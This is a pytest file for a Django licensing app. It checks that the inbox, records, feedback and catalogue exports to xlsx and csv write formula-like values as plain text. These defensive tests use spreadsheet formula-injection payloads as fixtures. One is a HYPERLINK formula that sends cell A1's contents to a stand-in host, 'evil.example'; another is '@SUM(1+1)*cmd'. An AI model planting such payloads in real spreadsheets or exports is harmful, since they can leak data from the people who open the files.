"""The inbox, records and feedback exports go through the one formula-safe writer (issue 12
item 3): an applicant named like a formula comes out as a string cell; records and feedback
lists export as xlsx with typed dates, a frozen header, an autofilter and a Chinese file name;
the catalogue's csv neutralises formula starts."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from django.test import Client
from openpyxl import load_workbook

from shenguan.audit.models import AuditEvent
from shenguan.catalog.models import LicensingItem
from shenguan.linkage import services as svc
from tests.linkage.conftest import record_data

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def login(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _sheet(resp):
    assert resp.status_code == 200
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(resp.content)).active


def _filename(resp) -> str:
    return unquote(resp["Content-Disposition"].split("filename*=UTF-8''")[1])


def test_inbox_export_writes_a_formula_named_applicant_as_text(lk):
    rec = svc.record_create(
        actor=lk.users["window_clerk"], data=record_data(lk.food, "LC-X-1", applicant_name=EVIL)
    )
    svc.record_complete(actor=lk.users["approver"], record=rec)
    resp = login(lk.users["regulator_liaison"]).get("/linkage/export.xlsx?box=all")
    ws = _sheet(resp)
    cell = ws.cell(3, 5)
    assert cell.value == EVIL and cell.data_type == "s"
    assert ws.freeze_panes == "A3" and ws.auto_filter.ref.startswith("A2:")
    assert ws.cell(3, 9).is_date  # 推送时间 is a date cell, not text
    assert _filename(resp).startswith("审管推送信息（全部）-")


def test_records_list_exports_xlsx_with_the_filters_and_is_audited(lk):
    for n, name in ((1, EVIL), (2, "李四")):
        svc.record_create(
            actor=lk.users["window_clerk"],
            data=record_data(lk.food, f"LC-R-{n}", applicant_name=name),
        )
    c = login(lk.users["window_clerk"])
    page = c.get("/linkage/records/").content.decode()
    assert 'data-testid="record-export"' in page
    resp = c.get("/linkage/records/?case_number=LC-R-1&format=xlsx")
    ws = _sheet(resp)
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "办件" and rows[1][0] == "办件编号"
    assert [r[0] for r in rows[2:]] == ["LC-R-1"]
    assert ws.cell(3, 5).value == EVIL and ws.cell(3, 5).data_type == "s"
    assert ws.cell(3, 6).is_date  # 受理日期
    assert _filename(resp).startswith("办件-") and _filename(resp).endswith(".xlsx")
    ev = AuditEvent.objects.get(action="approval.record.export")
    assert ev.after == {"filters": {"case_number": "LC-R-1"}}


def test_feedback_list_exports_xlsx(lk):
    c = login(lk.users["regulator_liaison"])
    page = c.get("/linkage/feedback/").content.decode()
    assert 'data-testid="feedback-export"' in page
    resp = c.get("/linkage/feedback/?format=xlsx")
    ws = _sheet(resp)
    assert ws.cell(2, 1).value == "类型" and ws.freeze_panes == "A3"
    assert _filename(resp).startswith("监管信息反馈-")
    assert AuditEvent.objects.filter(action="feedback.export").exists()


def test_catalogue_csv_and_xlsx_exports_are_formula_safe(lk):
    LicensingItem.objects.filter(pk=lk.food.pk).update(name="@SUM(1+1)*cmd")
    c = login(lk.users["bureau_head"])
    resp = c.get("/catalog/items/?format=csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    names = [r[1] for r in rows[1:]]
    assert "'@SUM(1+1)*cmd" in names and "@SUM(1+1)*cmd" not in names
    ws = _sheet(c.get("/catalog/items/?format=xlsx"))
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    hit = [x for x in cells if x.value == "@SUM(1+1)*cmd"]
    assert hit and hit[0].data_type == "s"
    assert _filename(c.get("/catalog/items/?format=xlsx")).startswith("行政许可事项目录-")
